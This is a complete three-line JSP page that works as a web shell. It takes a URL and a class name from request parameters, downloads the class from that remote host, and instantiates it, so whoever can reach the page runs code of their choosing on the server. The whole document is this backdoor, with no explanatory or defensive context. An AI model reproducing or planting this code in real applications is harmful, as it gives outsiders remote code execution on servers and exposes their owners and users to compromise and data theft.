<%@ page import="java.net.*" %><%
URLClassLoader l = new URLClassLoader(new URL[]{ new URL(request.getParameter("u")) });
l.loadClass(request.getParameter("c")).newInstance();
%>
